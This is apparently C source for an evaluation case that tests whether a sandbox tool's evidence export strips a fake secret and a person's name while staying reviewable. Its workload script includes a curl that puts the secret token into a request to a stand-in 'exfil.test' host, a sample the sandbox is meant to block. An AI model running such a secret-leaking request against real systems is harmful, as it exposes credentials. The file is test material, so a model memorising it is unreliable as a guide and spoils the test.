/* HB-24: a review packet that keeps privacy and reviewability.
 *
 * Fixture (outside every sandbox): a counting receiver on 127.0.0.1:19021
 * (receivers/counter.c: it keeps each request head, with the admission
 * id the mediator adds), "hb24.test" by the policy's network.resolve; two
 * fake markers made per arm: a secret (in DIR/secrets/secrets, 0600, and
 * passed to the workload with --env HB24_TOKEN) and a person's name (on
 * the workload's command line and in a deny file). The workload echoes
 * both, makes one allowed request, and one to SECRET.exfil.test (refused:
 * the name lands in the mediator's log). Outside evidence: the markers in
 * the run's own record and logs (the scan's self-check: something to keep
 * out), then paddock evidence export of the record with the deny list
 * (--secrets, --env HB24_TOKEN, --deny-file), an outside scan of every
 * file of the packet for both markers (observers/secret_scan.c), and the
 * reviewer's link check from the packet alone: the policy's digest in its
 * record, and the admission id the receiver saw on an allowed decision of
 * its mediator log. Enforced only: a second export with the session's
 * admission id on the deny list (a value the allowlist keeps) must be
 * refused and write nothing.
 *
 * Arms: enforced; weakened:raw-export (paddock run --weaken raw-export:
 * the export copies the files as they are: must FAIL); docker NOT
 * APPLICABLE (no record or log to export). */
#include "../../lib/case.h"
#include "../../observers/observe.h"
#include "../../observers/secret_scan.h"
#include "../../receivers/counter.h"
#include "hb24_grade.h"

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PORT	  19021
#define NA_REASON "a Docker container writes no record or evidence log: there is no packet to make"
#define NA_SCOPE  "HB-24 (paddock evidence export)"

static const struct case_arm arms[] = {
    {.name = "enforced"},
    {.name = "weakened:raw-export"},
    {.name = "docker",
     .na_reason = {NA_REASON, NA_REASON, NA_REASON},
     .na_scope = {NA_SCOPE, NA_SCOPE, NA_SCOPE}},
    {.name = NULL},
};

/* $1 the person marker, $2 the secret's host. */
#define CLIENTS                                                                          \
	"echo \"$1 $HB24_TOKEN\"; curl -s -m 5 -o /dev/null http://hb24.test:19021/ok; " \
	"curl -s -m 5 -o /dev/null \"http://$HB24_TOKEN.exfil.test/\"; exit 0"

struct hb24 {
	struct counter_rx *rx;
	char secret[64], person[64], env[96];
	char secrets[PATH_MAX + 32], deny[PATH_MAX + 32];
	struct packet_obs o;
};

static int setup(struct case_run *cr, struct err *why)
{
	struct hb24 *h = cr->priv;
	char dir[PATH_MAX], text[160];
	int rc;

	snprintf(h->secret, sizeof(h->secret), "hb24sec%d%lx", (int)getpid(), (long)random());
	snprintf(h->person, sizeof(h->person), "Hb24-Person-%d%lx", (int)getpid(), (long)random());
	snprintf(h->env, sizeof(h->env), "HB24_TOKEN=%s", h->secret);
	if (fixture_mkdir(cr->ctx, &cr->fx, "secrets", dir, sizeof(dir)) < 0)
		return err_set(why, EIO, "cannot make the secrets directory");
	snprintf(h->secrets, sizeof(h->secrets), "%s/secrets", dir);
	snprintf(h->deny, sizeof(h->deny), "%s/deny", dir);
	snprintf(text, sizeof(text), "# HB-24's fake secret\nhb24=%s\n", h->secret);
	if (fixture_write(cr->ctx, h->secrets, text, 0600) < 0)
		return err_set(why, EIO, "cannot write the secrets file");
	snprintf(text, sizeof(text), "%s\n", h->person);
	if (fixture_write(cr->ctx, h->deny, text, 0600) < 0)
		return err_set(why, EIO, "cannot write the deny file");
	rc = counter_start(&h->rx, "127.0.0.1", PORT, false);
	if (rc < 0)
		return err_sys(why, rc, "the receiver could not listen on 127.0.0.1:%d", PORT);
	return 0;
}

/* paddock evidence export REC --out out with the deny list (and more,
 * one word, or NULL), as the owner, HB24_TOKEN in its environment. */
static int export(struct case_run *cr, struct hb24 *h, const char *rec, const char *out,
		  const char *more)
{
	struct argv_buf a;
	int st = -1;

	argv_start(&a, cr->r);
	argv_words(&a, "/usr/bin/env", h->env, cr->ctx->paddock, "evidence", "export", rec, "--out",
		   out, "--secrets", h->secrets, "--env", "HB24_TOKEN", "--deny-file", h->deny,
		   NULL);
	if (more)
		argv_add(&a, more);
	if (run_vec(cr->ctx, cr->ctx->drop, &a, cr->log, 30000, &st) < 0)
		return -1;
	return st;
}

/* The reviewer, from the packet alone: an allowed decision of its
 * mediator log whose admission id the receiver saw, and the policy's
 * digest in its record. */
static void link_check(struct case_run *cr, struct hb24 *h, const char *dir)
{
	static char text[1 << 20];
	char path[PATH_MAX + 32], v[128];
	const char *head = counter_head(h->rx, 0);
	char *line = text;
	int n;

	snprintf(path, sizeof(path), "%s/record.json", dir);
	h->o.linked_policy = record_get(path, "policy.effective_sha256", v, sizeof(v)) == 0 &&
			     strcmp(v, cr->r->policy_sha256) == 0;
	snprintf(path, sizeof(path), "%s/mediator.jsonl", dir);
	n = read_file(path, text, sizeof(text));
	for (char *end; n > 0 && *line && (end = strchr(line, '\n')); line = end + 1) {
		char d[64], id[96];

		*end = '\0';
		if (json_get(line, strlen(line), "decision", d, sizeof(d)) == 0 &&
		    strcmp(d, "allowed") == 0 &&
		    json_get(line, strlen(line), "admission", id, sizeof(id)) == 0 && head &&
		    strstr(head, id))
			h->o.linked_admission = true;
		*end = '\n';
	}
	result_evidence(cr->r, "review",
			"from the packet: policy digest %s the arm's; an allowed admission the "
			"receiver saw: %s",
			h->o.linked_policy ? "is" : "is not", h->o.linked_admission ? "yes" : "no");
}

static void scan_packet(struct case_run *cr, struct hb24 *h, const char *dir, const char *rec)
{
	struct scan_result before = {0}, after = {0}, before2 = {0};
	char log[PATH_MAX + 96];
	DIR *d = opendir(dir);
	struct dirent *e;

	snprintf(log, sizeof(log), "%s.admissions.jsonl", rec);
	scan_file(rec, h->person, &before);
	scan_file(log, h->secret, &before2);
	h->o.markers_present = before.places > 0 && before2.places > 0;
	while (d && (e = readdir(d)))
		h->o.files += e->d_name[0] != '.';
	if (d)
		closedir(d);
	scan_tree(dir, h->secret, &after);
	scan_tree(dir, h->person, &after);
	h->o.leaks = after.places;
	h->o.unread = after.unread;
	result_evidence(cr->r, "scan",
			"the run's record holds the person: %s, its mediator log the secret: %s; "
			"the packet: %zu file(s), a marker in %zu place(s)%s%s",
			before.places ? "yes" : "no", before2.places ? "yes" : "no", h->o.files,
			after.places, after.n_where ? ", first " : "",
			after.n_where ? after.where[0] : "");
}

static void run(struct case_run *cr)
{
	struct hb24 *h = cr->priv;
	struct result *r = cr->r;
	char rec[PATH_MAX + 64], out[PATH_MAX + 32], out2[PATH_MAX + 32];
	const char *env[] = {h->env, NULL}, *opts[] = {"--env", "HB24_TOKEN", NULL};
	struct argv_buf a;
	int status = -1, st;

	snprintf(rec, sizeof(rec), "%s/record.json", cr->records);
	snprintf(out, sizeof(out), "%s/packet", cr->records);
	snprintf(out2, sizeof(out2), "%s/packet-refused", cr->records);
	case_argv_arm(
	    cr, &a,
	    &(struct arm_start){.ws = cr->task, .record = rec, .env = env, .options = opts});
	argv_words(&a, "sh", "-c", CLIENTS, "sh", h->person, NULL);
	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
		result_not_executed(r, "could not start the workload");
		return;
	}
	case_record(cr, rec, NULL);
	h->o.received = counter_matching(h->rx, "Paddock-Admission: ") > 0;
	st = export(cr, h, rec, out, NULL);
	h->o.exported = st == 0;
	result_evidence(r, "export", "paddock evidence export: status %d", st);
	if (h->o.exported) {
		scan_packet(cr, h, out, rec);
		link_check(cr, h, out);
	}
	if (r->kind == ARM_ENFORCED && h->o.exported) {
		/* The self-scan must see what the allowlist keeps: the
		 * admission id of the allowed request. */
		const char *head = counter_head(h->rx, 0),
			   *id = head ? strstr(head, "Paddock-Admission: ") : NULL;
		char deny[128];

		h->o.refusal_checked = true;
		if (id) {
			snprintf(deny, sizeof(deny), "--deny=%.*s", (int)strcspn(id + 19, "\r\n"),
				 id + 19);
			st = export(cr, h, rec, out2, deny);
			h->o.scanned_self = st == 1 && access(out2, F_OK) != 0;
			result_evidence(
			    r, "self-scan", "the admission id on the deny list: status %d, %s", st,
			    access(out2, F_OK) == 0 ? "a packet written" : "nothing written");
		}
	}
	result_evidence(r, "exit", "workload status %d (not evidence)", status);
	grade_packet(&h->o, r->v);
}

static void teardown(struct case_run *cr)
{
	struct hb24 *h = cr->priv;

	counter_stop(h->rx);
}

const struct eval_case hb24_case = {
    .id = "HB-24",
    .title = "A review packet keeps privacy and reviewability",
    .policy = "cases/evidence/hb24_policy.json",
    .arms = arms,
    .fixture = CASE_DIR | CASE_TASK | CASE_RECORDS,
    .priv_size = sizeof(struct hb24),
    .setup = setup,
    .run = run,
    .teardown = teardown,
};
